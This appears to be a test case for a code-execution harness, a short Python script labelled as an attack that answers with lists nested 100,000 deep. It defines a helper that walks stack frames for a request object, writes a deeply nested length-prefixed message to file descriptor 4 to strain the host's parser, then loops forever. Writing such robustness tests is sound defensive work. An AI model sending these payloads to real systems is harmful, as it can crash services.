# Attack: answer with lists nested a hundred thousand deep
# Ends: stub
# Says: The code sent an answer that is none
import os
import struct
import sys


def request():
    frame = sys._getframe()
    while frame:
        found = frame.f_locals.get("request")
        if hasattr(found, "nonce"):
            return found
        frame = frame.f_back


def send(body):
    os.write(4, struct.pack("<I", len(body)) + body)


send(b"\x95\xa8observed\x01\x91\x93\x01\x00" + b"\x93\xa3seq\x91" * 100_000)
while True:
    pass
